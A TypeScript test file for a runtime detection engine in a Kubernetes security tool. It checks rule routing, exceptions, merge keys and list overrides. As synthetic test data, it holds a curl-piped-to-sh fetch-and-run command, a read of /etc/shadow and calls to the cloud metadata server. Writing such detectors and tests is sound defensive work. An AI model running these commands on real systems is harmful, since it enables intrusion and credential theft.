import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DetectionEngine } from '../../../../controlplane/src/detections/engine';
import { RULES } from '../../../../controlplane/src/detections/rules';
import { KNOWN_LISTS, RuleSet, ruleCatalog } from '../../../../controlplane/src/detections/rule-set';
import { parseRulesFile } from '../../../../controlplane/src/config/rules-file';
import type { Rule } from '../../../../controlplane/src/detections/rule';
import type { RulesFile } from '../../../../controlplane/src/config/rules-file';
import { container, createWorkload, podSpec, rbacObject } from '../../../../controlplane/src/audit/audit-event-builder';
import { toAuditRecord } from '../../../../controlplane/src/audit/to-audit-record';
import { CONTAINER_ID, connectEvent, containerStarted, execEvent, execInPod, shellInContainer } from '../../../helpers/synthetic-events';
import { chain, proc } from '../../../helpers/rule-context';
import { ancestorsOf, programOf } from '../../../../controlplane/src/detections/facts';
import { eventCodec } from '../../../../proto/loader';

const file = (f: Partial<RulesFile>): RulesFile => ({ lists: {}, rules: {}, intel: { feeds: [] }, ...f });
const engine = (f?: Partial<RulesFile>, log?: (l: string) => void) => new DetectionEngine(RuleSet.build(RULES, f ? file(f) : undefined), { log });
const pod = { containerId: CONTAINER_ID, namespace: 'shop', pod: 'web-1', podUid: 'u1', name: 'web', image: 'registry.example.com/shop/web:1.4' };
const runtimeExec = (argv = ['/bin/sh', '-c', 'id'], pid = 9000) => execInPod(pod, { pid, nsPid: 9, filename: '/bin/sh', argv, ancestry: chain() });

describe('DetectionEngine', () => {
  test('routes events only to rules that asked for their source', () => {
    let calls = 0;
    const spy: Rule = { ...RULES[0], id: 'spy', sources: ['connect'], match: () => (calls++, null) };
    new DetectionEngine(RuleSet.build([spy])).evaluate('n', [execEvent()]);
    assert.equal(calls, 0);
  });

  test('alerts carry the ancestry the sensor sent with the event', () => {
    const nginx = proc(100, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], 'nginx');
    const raised = engine().evaluate('n', [{ ...shellInContainer(200, 100), ancestry: chain(nginx) }]);
    assert.ok(raised.some((r) => r.alert.rule_id === 'web-shell-activity'));
    for (const r of raised) assert.deepEqual(r.alert.evidence?.ancestry, chain(nginx));
  });

  test('an ancestor that decode shares is one Program for every event carrying it, judged the same each time', () => {
    const nginx = proc(100, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], 'nginx');
    const bytes = Buffer.from(eventCodec().encode({ ...shellInContainer(200, 100), ancestry: chain(nginx) }));
    const events = Array.from({ length: 4 }, () => eventCodec().decode(bytes));
    const e = engine();
    const programs = events.map((ev) => {
      assert.ok(e.evaluate('n', [ev]).some((r) => r.alert.rule_id === 'web-shell-activity'));
      return ancestorsOf(ev)[0];
    });
    assert.ok(Object.isFrozen(events[3].ancestry[0]), 'the fourth decode shares the ancestor');
    assert.equal(programs[3], programs[2], 'shared node, one Program');
    assert.notEqual(programs[1], programs[0], 'a node of its own, a Program of its own');
  });

  test('a command line that repeats is worked out once, each run keeping its own process', () => {
    const runs = [9101, 9102].map((pid) => execEvent({ pid, filename: '/bin/sh', argv: ['sh', '-c', 'curl -s http://10.0.0.1/x | sh'] }));
    const [a, b] = runs.map((ev) => programOf(ev));
    assert.deepEqual([a.pid, b.pid], [9101, 9102]);
    assert.equal(a.names, b.names, 'the same names, worked out once');
    assert.equal(a.shellLine, b.shellLine, 'the same parsed line');
    const other = programOf(execEvent({ pid: 9103, filename: '/bin/sh', argv: ['sh', '-c', 'id'] }));
    assert.notEqual(other.shellLine, a.shellLine);
  });

  test('merge keys: the same command from the same parent program merges, another command does not', () => {
    const e = engine();
    const [a] = e.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'check'], 9001)]);
    const [b] = e.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'check'], 9002)]);
    const [c] = e.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'cat /etc/shadow'], 9003)]);
    assert.equal(a.mergeKey, b.mergeKey, 'an exec probe repeating');
    assert.notEqual(a.mergeKey, c.mergeKey);
  });

  test('the container registry learns the entrypoint from the events before the rules see them', () => {
    const e = engine();
    const started = containerStarted(pod, { init_pid: 0 });
    const entry = execInPod(pod, { pid: 5000, nsPid: 1, filename: '/bin/sh', argv: ['/bin/sh', '/start.sh'], ancestry: chain() });
    const child = execInPod(pod, { pid: 5001, nsPid: 5, filename: '/bin/sh', argv: ['/bin/sh', '-c', 'sleep 1'], ancestry: chain(proc(5000, '/bin/sh', ['/bin/sh', '/start.sh'])) });
    assert.deepEqual(e.evaluate('n', [started, entry, child]).map((r) => r.alert.rule_id), []);
    assert.equal(e.containers.get(CONTAINER_ID)?.initPid, 5000);
  });

  test('rules file: off, severity, and exceptions by image glob, command, pod label, named list', () => {
    assert.deepEqual(engine({ rules: { 'shell-in-container': { enabled: false } } }).evaluate('n', [runtimeExec()]), []);
    assert.equal(engine({ rules: { 'shell-in-container': { severity: 'critical' } } }).evaluate('n', [runtimeExec()])[0].alert.severity, 'SEVERITY_CRITICAL');
    const byImage = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'shop images', image: 'registry.example.com/shop/*' }] } } });
    assert.deepEqual(byImage.evaluate('n', [runtimeExec()]), []);
    assert.equal(byImage.excepted.get('shell-in-container'), 1);
    const probe = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'readiness probe', command: '/bin/sh -c check*', container: 'web' }] } } });
    assert.deepEqual(probe.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'check --ready'])]), []);
    assert.equal(probe.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'id'])]).length, 1, 'another command still alerts');
    const byLabel = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'debug pods', pod_labels: { purpose: 'debug*' } }] } } });
    assert.deepEqual(byLabel.evaluate('n', [containerStarted(pod, { pod_labels: { purpose: 'debugging' } }), runtimeExec()]), []);
    const byList = engine({ lists: { our_images: ['registry.example.com/shop/*'] }, rules: { 'shell-in-container': { exceptions: [{ name: 'ours', image: ['@our_images'] }] } } });
    assert.deepEqual(byList.evaluate('n', [runtimeExec()]), []);
  });

  test('an image exception written short matches the runtime\'s full Docker Hub name, and nothing of another registry', () => {
    const hub = { ...pod, image: 'docker.io/library/nginx:1.27' };
    const exec = (image: string) => execInPod({ ...pod, image }, { pid: 9100, nsPid: 9, filename: '/bin/sh', argv: ['/bin/sh', '-c', 'id'], ancestry: chain() });
    const short = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'nginx', image: 'nginx:*' }] } } });
    assert.deepEqual(short.evaluate('n', [exec(hub.image)]), []);
    assert.equal(short.evaluate('n', [exec('ghcr.io/evil/nginx:1.27')]).length, 1, 'not an image of another registry named alike');
    assert.equal(short.evaluate('n', [exec('docker.io/evil/nginx:1.27')]).length, 1, 'not another Docker Hub account\'s');
    assert.equal(short.evaluate('n', [exec('docker.io/nginxevil/miner:1')]).length, 1, "a short name's * stops at /: not an account named like the image");
    const star = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'nginx', image: 'nginx*' }] } } });
    assert.equal(star.evaluate('n', [exec('docker.io/nginxevil/miner:1')]).length, 1);
    assert.deepEqual(star.evaluate('n', [exec('docker.io/library/nginx:1.27-alpine')]), []);
    assert.equal(star.evaluate('n', [exec('nginxevil/miner:1')]).length, 1, 'nor when the runtime reports the name short (Docker)');
    assert.deepEqual(star.evaluate('n', [exec('nginx:1.27')]), [], 'the image itself, reported short');
    const any = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'all', image: '*' }] } } });
    assert.deepEqual(any.evaluate('n', [exec('nginxevil/miner:1')]), [], '* alone is any image, by its full name');
    const full = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'agents', image: 'docker.io/jenkins/*' }] } } });
    assert.deepEqual(full.evaluate('n', [exec('docker.io/jenkins/inbound-agent:3206')]), [], 'a full name still matches itself');
  });

  test('an exception must match every field it names, and every image of a workload', () => {
    const both = engine({ rules: { 'shell-in-container': { exceptions: [{ name: 'x', image: 'registry.example.com/*', namespace: 'other' }] } } });
    assert.equal(both.evaluate('n', [runtimeExec()]).length, 1, 'namespace differs');
    const audit = engine({ rules: { 'k8s-high-privileged-role': { exceptions: [{ name: 'helm', user: 'system:serviceaccount:ci:helm' }] } } });
    const ev = rbacObject('ClusterRole', 'all', { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] });
    assert.equal(audit.evaluateAudit([{ raw: ev, record: toAuditRecord(ev) }]).length, 1);
    const helm = { ...ev, user: { username: 'system:serviceaccount:ci:helm' } };
    assert.deepEqual(audit.evaluateAudit([{ raw: helm, record: toAuditRecord(helm) }]), []);
  });

  test('lists the rules file extends reach the cluster rules too (a private registry of known-bad images)', () => {
    const ev = createWorkload('Pod', 'shop', 'tool', podSpec([container('app', 'registry.evil.example/cryptotool:2')]));
    const raisedBy = (e: DetectionEngine) => e.evaluateAudit([{ raw: ev, record: toAuditRecord(ev) }]).map((r) => r.alert.rule_id);
    assert.ok(!raisedBy(engine()).includes('k8s-malicious-image'));
    assert.ok(raisedBy(engine({ lists: { malicious_images: ['registry.evil.example/cryptotool'] } })).includes('k8s-malicious-image'));
    assert.ok(!raisedBy(engine()).includes('k8s-malicious-image'), 'a new engine with the defaults forgets the extension');
  });

  test("a command's verdicts are kept for its next runs, and a rule set with other lists judges it anew", () => {
    // The same decoded command, shared by every event carrying its bytes: verdicts kept on it must follow the lists.
    const bytes = Buffer.from(eventCodec().encode(execEvent({ pid: 300, filename: '/opt/tools/hashd', argv: ['hashd', '--threads', '2'] })));
    const runs = Array.from({ length: 4 }, () => eventCodec().decode(bytes));
    const miner = (e: DetectionEngine, ev: (typeof runs)[number]) => e.evaluate('n', [ev]).some((r) => r.alert.rule_id === 'crypto-mining');
    const defaults = engine();
    assert.ok(!miner(defaults, runs[0]) && !miner(defaults, runs[3]));
    const extended = engine({ lists: { miner_names: ['hashd'] } });
    assert.ok(miner(extended, runs[1]) && miner(extended, runs[3]), 'the extended list is read, not the verdict of the defaults');
    assert.ok(!miner(defaults, runs[2]), 'and the defaults are read again');
  });

  test('a rule that throws is counted and logged once; the others still run', () => {
    const broken: Rule = { ...RULES[0], id: 'broken', match: () => { throw new Error('boom'); } };
    const lines: string[] = [];
    const e = new DetectionEngine(RuleSet.build([broken, ...RULES]), { log: (l) => lines.push(l) });
    const raised = e.evaluate('n', [runtimeExec(), runtimeExec(['/bin/sh', '-c', 'ls'], 9100)]);
    assert.equal(raised.filter((r) => r.alert.rule_id === 'shell-in-container').length, 2);
    assert.equal(e.ruleErrors.get('broken'), 2);
    assert.equal(lines.length, 1, 'logged once');
    assert.match(lines[0], /rule broken failed on a exec event from n \(pid 9000\): boom/);
  });

  test('a swapped rule set applies whole to the next event', () => {
    const e = engine();
    assert.equal(e.evaluate('n', [runtimeExec()]).length, 1);
    e.setRuleSet(RuleSet.build(RULES, file({ rules: { 'shell-in-container': { enabled: false } } })));
    assert.equal(e.evaluate('n', [runtimeExec()]).length, 0);
  });

  test('every shipped rule is described', () => {
    const ids = new Set<string>();
    for (const r of RULES) {
      assert.match(r.id, /^[a-z0-9]+(-[a-z0-9]+)*$/);
      assert.ok(!ids.has(r.id), `duplicate rule id ${r.id}`);
      ids.add(r.id);
      assert.match(r.mitre.id, /^T\d{4}(\.\d{3})?$/);
      assert.ok(r.mitre.name && r.mitre.tactic && r.title && r.description.length > 80 && r.sources.length > 0, r.id);
      assert.match(r.description, /Triage/, `${r.id} says how to triage`);
    }
  });
});

describe('DetectionEngine: review findings', () => {
  test('merge keys (review 13): one command run per WAL segment is one alert; another command is its own', () => {
    const archiver = (segment: string, pid: number) =>
      execInPod(pod, { pid, nsPid: pid - 5000, filename: '/bin/sh', argv: ['sh', '-c', `wal-g wal-push pg_wal/${segment}`], ancestry: chain(proc(5090, '/usr/lib/postgresql/16/bin/postgres', ['postgres: archiver'], 'postgres')) });
    const e = engine();
    const [a] = e.evaluate('n', [archiver('000000010000000000000003', 5101)]);
    const [b] = e.evaluate('n', [archiver('00000001000000000000002A', 5102)]);
    const [c] = e.evaluate('n', [runtimeExec(['/bin/sh', '-c', 'wal-g backup-push /var/lib/postgresql/data'], 9005)]);
    assert.equal(a.alert.rule_id, 'shell-in-container');
    assert.equal(a.mergeKey, b.mergeKey);
    assert.notEqual(a.mergeKey, c.mergeKey);
  });

  test('merge keys (review 17): a privileged DaemonSet on two nodes is one alert; containers outside Kubernetes stay per container', () => {
    const e = engine();
    const labels = { 'controller-revision-hash': '6d9f8b7c5d', app: 'agent' };
    const [a] = e.evaluate('node-1', [containerStarted({ ...pod, pod: 'agent-x2x4k', containerId: 'a'.repeat(64) }, { privileged: true, pod_labels: labels })]);
    const [b] = e.evaluate('node-2', [containerStarted({ ...pod, pod: 'agent-7qpzn', containerId: 'b'.repeat(64) }, { privileged: true, pod_labels: labels })]);
    assert.equal(a.mergeKey, b.mergeKey);
    const ctr = (id: string) => e.evaluate('node-1', [containerStarted({ containerId: id, namespace: '', pod: '', podUid: '' }, { privileged: true })])[0].mergeKey;
    assert.notEqual(ctr('c'.repeat(64)), ctr('d'.repeat(64)));
  });

  test('learns the API server\'s endpoints (review 10): the kube-apiserver\'s command line, the kubernetes EndpointSlice in the audit log', () => {
    const e = engine();
    const started = containerStarted(pod, { kubernetes_service: '10.96.0.1:443' });
    const connect = (address: string, port: number) => ({ ...connectEvent(address, port, { containerId: CONTAINER_ID, pid: 9900, nsPid: 99, exe: '/usr/bin/curl' }), container: started.container });
    const rules = (evs: ReturnType<typeof connect>[]) => e.evaluate('n', evs).map((r) => r.alert.rule_id);
    assert.deepEqual(rules([started, connect('172.18.0.2', 6443)]), []);
    e.evaluate('cp-1', [execEvent({ pid: 300, filename: '/usr/local/bin/kube-apiserver', argv: ['kube-apiserver', '--advertise-address=172.18.0.2', '--secure-port=6443', '--etcd-servers=https://127.0.0.1:2379'] })]);
    assert.deepEqual(rules([connect('172.18.0.2', 6443)]), ['api-server-access-from-container']);
    const slice = {
      kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: 'eps-1', stage: 'ResponseComplete', verb: 'update',
      user: { username: 'system:apiserver' }, objectRef: { resource: 'endpointslices', namespace: 'default', name: 'kubernetes', apiGroup: 'discovery.k8s.io', apiVersion: 'v1' },
      responseStatus: { code: 200 },
      requestObject: { kind: 'EndpointSlice', metadata: { name: 'kubernetes', namespace: 'default', labels: { 'kubernetes.io/service-name': 'kubernetes' } }, addressType: 'IPv4', endpoints: [{ addresses: ['172.18.0.3'] }], ports: [{ name: 'https', port: 6443, protocol: 'TCP' }] },
    };
    e.evaluateAudit([{ raw: slice, record: toAuditRecord(slice) }]);
    assert.deepEqual(rules([connect('172.18.0.3', 6443)]), ['api-server-access-from-container']);
    const endpoints = {
      ...slice, auditID: 'ep-1', objectRef: { resource: 'endpoints', namespace: 'default', name: 'kubernetes', apiVersion: 'v1' },
      requestObject: { kind: 'Endpoints', metadata: { name: 'kubernetes', namespace: 'default' }, subsets: [{ addresses: [{ ip: '172.18.0.4' }], ports: [{ name: 'https', port: 6443 }] }] },
    };
    e.evaluateAudit([{ raw: endpoints, record: toAuditRecord(endpoints) }]);
    assert.deepEqual(rules([connect('172.18.0.4', 6443)]), ['api-server-access-from-container']);
  });

  test('the README\'s GKE Workload Identity exception silences the metadata server for its namespaces only', () => {
    const yaml = `
rules:
  cloud-metadata-access:
    exceptions:
      - name: "GKE Workload Identity: pods ask the node's metadata server for their own identity"
        namespace: [data-pipeline, billing]
`;
    const parsed = parseRulesFile(yaml, ruleCatalog(RULES), KNOWN_LISTS);
    assert.deepEqual(parsed.problems, []);
    const e = new DetectionEngine(RuleSet.build(RULES, parsed.file));
    const md = (namespace: string) => ({ ...connectEvent('169.254.169.254', 80, { containerId: CONTAINER_ID, exe: '/usr/bin/python3' }), container: execInPod({ ...pod, namespace }, {}).container });
    assert.deepEqual(e.evaluate('n', [md('billing')]), []);
    assert.equal(e.evaluate('n', [md('shop')]).length, 1);
  });

  test('a rules file removes a built-in list item written "!name" (review 5): no longer a web server', () => {
    const parsed = parseRulesFile('lists:\n  app_runtimes: ["!java"]\n', ruleCatalog(RULES), KNOWN_LISTS);
    assert.deepEqual(parsed.problems, []);
    const javaShell = execInPod(pod, { pid: 9300, nsPid: 30, filename: '/bin/sh', argv: ['sh', '-c', 'id'], ancestry: chain(proc(5003, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/app.jar'], 'java')) });
    const raisedBy = (file?: RulesFile) => new DetectionEngine(RuleSet.build(RULES, file)).evaluate('n', [javaShell]).map((r) => r.alert.rule_id);
    assert.ok(raisedBy().includes('web-shell-activity'));
    assert.ok(!raisedBy(parsed.file).includes('web-shell-activity'));
    assert.ok(!RuleSet.build(RULES, parsed.file).lists.app_runtimes.has('java'));
  });
});
